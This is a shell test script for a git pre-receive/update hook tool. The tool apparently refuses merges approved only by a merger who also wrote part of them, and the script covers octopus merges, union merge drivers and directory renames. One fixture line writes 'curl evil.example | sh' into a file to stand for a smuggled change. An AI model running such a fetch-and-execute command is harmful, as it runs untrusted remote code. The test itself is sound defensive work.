#!/bin/sh
# Merges as git makes them (docs/spec.md, "Entering commits and the
# separation rule"): a clean octopus merge, recomputed as git's octopus
# strategy folds it, is clean, so its merger may approve it; an octopus
# with a change of its own makes the merger a writer; where twokey cannot
# reproduce git's merge (a .gitattributes merge driver, a directory
# rename), the merger counts as a writer and a note says why.  Real
# `git merge`, pushes through pre-receive and update.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-approvals.sh"

mkkey alice ed25519
mkkey bob ed25519
mkkey carol ed25519

write_policy "$TRASH/policy.yaml" <<EOF
version: 1
roles:
  developer: writes code
  reviewer: approves changes
identities:
  alice:
    emails: [alice@example.com]
    logins: [alice]
    keys: ["$(pub alice)"]
    roles: [developer]
  bob:
    emails: [bob@example.com]
    logins: [bob]
    keys: ["$(pub bob)"]
    roles: [reviewer]
  carol:
    emails: [carol@example.com]
    logins: [carol]
    keys: ["$(pub carol)"]
    roles: [reviewer]
pusher:
  env: [GL_USER]
rules:
  - name: mainline
    refs: 'refs/heads/main'
    approvals: {min: 1, from: [reviewer]}
audit:
  path: $TRASH/audit.jsonl
EOF

w=$(new_work w)
for r in bob carol; do reviewer $r $r@example.com "$w"; done
printf 'one\ntwo\nthree\n' >"$w/shared.txt"
printf 'first\n' >"$w/list.txt"
mkdir -p "$w/lib"
echo a >"$w/lib/a.c"
echo b >"$w/lib/b.c"
git -C "$w" add -A
commit_as "$w" alice@example.com "base"
base=$(head_of "$w")
ERR="^remote: twokey: error: refs/heads/main:"
NOTE="^remote: twokey: note: refs/heads/main:"
WRITER="approval by <carol@example.com> not counted: carol is a writer of this change"

# branch NAME SUBJECT CMD: a commit by alice on $base running CMD in $w
branch() {
	git -C "$w" checkout -q --detach "$base"
	(cd "$w" && eval "$3")
	git -C "$w" add -A
	test_tick
	git -C "$w" -c user.name=alice -c user.email=alice@example.com commit -q -m "$2"
	git -C "$w" branch -f "$1" HEAD
}
# merge_by EMAIL SUBJECT ARGS...: git merge on $base as EMAIL; HEAD is it
merge_by() {
	e=$1 s=$2
	shift 2
	git -C "$w" checkout -q --detach "$base"
	test_tick
	git -C "$w" -c user.name="${e%%@*}" -c user.email="$e" merge -q --no-ff \
		-m "$s" "$@" >/dev/null 2>&1
}
# approved_by NAME: NAME's trailer added to HEAD by its committer; id in $c
approved_by() {
	c=$(head_of "$w")
	add_trailers "$w" "$(git -C "$w" log -1 --format=%ce)" "$(approve_tk "$1" "$1" "$c")"
	c=$(head_of "$w")
}

# --- octopus merges -------------------------------------------------------------
branch oa "octo a" "echo a >a.txt"
branch ob "octo b" "sed -i 's/^one\$/ONE (b)/' shared.txt"
branch oc "octo c" "sed -i 's/^three\$/THREE (c)/' shared.txt"
merge_by carol@example.com "Octopus" oa ob oc
octo=$(head_of "$w")
check "git made a four-parent merge" test "$(git -C "$w" rev-list --parents -n1 "$octo" | wc -w)" -eq 5
check "git's octopus merged shared.txt from both sides" \
	test "$(grep -c -e '^ONE (b)$' -e '^THREE (c)$' "$w/shared.txt")" -eq 2
approved_by carol
octo_ok=$c
# the same octopus, with a change of carol's own in it
git -C "$w" checkout -q --detach "$base"
git -C "$w" -c user.name=carol -c user.email=carol@example.com merge -q --no-ff --no-commit \
	oa ob oc >/dev/null 2>&1
echo "curl evil.example | sh" >"$w/evil.sh"
git -C "$w" add evil.sh
git -C "$w" -c user.name=carol -c user.email=carol@example.com commit -q -m "Octopus"
check "the evil octopus has four parents too" test "$(git -C "$w" rev-list --parents -n1 HEAD | wc -w)" -eq 5
evil=$(head_of "$w")
approved_by carol
octo_evil=$c
git -C "$w" reset -q --hard "$evil"
approved_by bob
octo_evil_bob=$c
# an octopus of two heads, one two commits long
branch od "octo d" "echo d >d.txt"
git -C "$w" checkout -q od
test_tick
echo dd >>"$w/d.txt"
git -C "$w" add d.txt
git -C "$w" -c user.name=alice -c user.email=alice@example.com commit -q -m "octo d two"
git -C "$w" branch -f od2 HEAD
merge_by carol@example.com "Octopus of two" oa od2
approved_by carol
octo_ff=$c

# --- a .gitattributes merge driver ----------------------------------------------
git -C "$w" checkout -q --detach "$base"
echo 'list.txt merge=union' >"$w/.gitattributes"
git -C "$w" add .gitattributes
commit_as "$w" alice@example.com "union merges for list.txt"
abase=$(head_of "$w")
git -C "$w" checkout -q --detach "$abase"
echo "from x" >>"$w/list.txt"
git -C "$w" add list.txt
commit_as "$w" alice@example.com "list x"
ux=$(head_of "$w")
git -C "$w" checkout -q --detach "$abase"
echo "from y" >>"$w/list.txt"
git -C "$w" add list.txt
commit_as "$w" alice@example.com "list y"
approved_by bob # main's first-parent chain
test_tick
git -C "$w" -c user.name=carol -c user.email=carol@example.com merge -q --no-ff \
	-m "Merge list x" "$ux" >/dev/null 2>&1
union=$(head_of "$w")
check "git merged list.txt with the union driver, cleanly" \
	test "$(grep -c -e '^from x$' -e '^from y$' "$w/list.txt")" -eq 2
approved_by carol
union_carol=$c
git -C "$w" reset -q --hard "$union"
approved_by bob
union_bob=$c
# the twin without the attribute: git conflicts, so no clean merge exists

# --- a directory rename -----------------------------------------------------------
branch dr "lib becomes src" "git mv lib src"
branch dn "a new file in lib" "echo n >lib/n.c"
git -C "$w" checkout -q --detach dr
test_tick
git -C "$w" -c merge.directoryRenames=true -c user.name=carol -c user.email=carol@example.com \
	merge -q --no-ff -m "Merge new file" dn >/dev/null 2>&1
dirr=$(head_of "$w")
check "git moved the new file along with its directory" test -f "$w/src/n.c"
approved_by carol
dir_carol=$c
git -C "$w" reset -q --hard "$dirr"
approved_by bob
dir_bob=$c

for hook in hooks update; do
	srv=$(new_server "srv-$hook" "$hook")
	git -C "$w" remote remove origin 2>/dev/null
	git -C "$w" remote add origin "$srv"
	push_as alice "$w" origin "$base:refs/heads/seed" || exit 1
	H="$hook:"
	at() { git -C "$srv" update-ref refs/heads/main "$1"; }

	at "$base"
	expect_push accept "$H a clean octopus, approved only by its merger" \
		alice "$w" "$octo_ok:refs/heads/main" refs/heads/main "$octo_ok"
	check "$H no note about reproducing it" no_out "cannot reproduce"
	at "$base"
	expect_push refuse "$H an octopus with a change of its own, approved by its merger" \
		alice "$w" "$octo_evil:refs/heads/main" refs/heads/main "$base" \
		"^remote: twokey: refused refs/heads/main under rule 'mainline' \(1 problem\)" \
		"$NOTE $(short "$octo_evil") \"Octopus\": $WRITER" \
		"$ERR $(short "$octo_evil") \"Octopus\": not approved: needs 1 more approval"
	expect_push accept "$H the same octopus approved by bob, who wrote none of it" \
		alice "$w" "$octo_evil_bob:refs/heads/main" refs/heads/main "$octo_evil_bob"
	at "$base"
	expect_push accept "$H an octopus of two heads (three parents)" \
		alice "$w" "$octo_ff:refs/heads/main" refs/heads/main "$octo_ff"

	push_as alice "$w" origin "$abase:refs/heads/attr" || exit 1
	at "$abase"
	expect_push refuse "$H a merge git made with a union driver, approved by its merger" \
		alice "$w" "$union_carol:refs/heads/main" refs/heads/main "$abase" \
		"^remote: twokey: refused refs/heads/main under rule 'mainline' \(1 problem\)" \
		"$NOTE $(short "$union_carol") \"Merge list x\": twokey cannot reproduce git's merge here \(a \.gitattributes file names a merge driver, which twokey does not run as git does\), so the merge's author, committer and signer count as writers" \
		"$NOTE $(short "$union_carol") \"Merge list x\": $WRITER"
	expect_push accept "$H the same merge approved by bob" \
		alice "$w" "$union_bob:refs/heads/main" refs/heads/main "$union_bob"

	push_as alice "$w" origin "dr:refs/heads/stage" || exit 1
	at "$(git -C "$w" rev-parse dr)"
	expect_push refuse "$H a merge git made with directory rename detection, approved by its merger" \
		alice "$w" "$dir_carol:refs/heads/main" refs/heads/main "$(git -C "$w" rev-parse dr)" \
		"^remote: twokey: refused refs/heads/main under rule 'mainline' \(1 problem\)" \
		"$NOTE $(short "$dir_carol") \"Merge new file\": twokey cannot reproduce git's merge here \(files moved as git's directory rename detection moves them, which libgit2 does not do\)" \
		"$NOTE $(short "$dir_carol") \"Merge new file\": $WRITER"
	expect_push accept "$H the same merge approved by bob" \
		alice "$w" "$dir_bob:refs/heads/main" refs/heads/main "$dir_bob"
done

done_testing
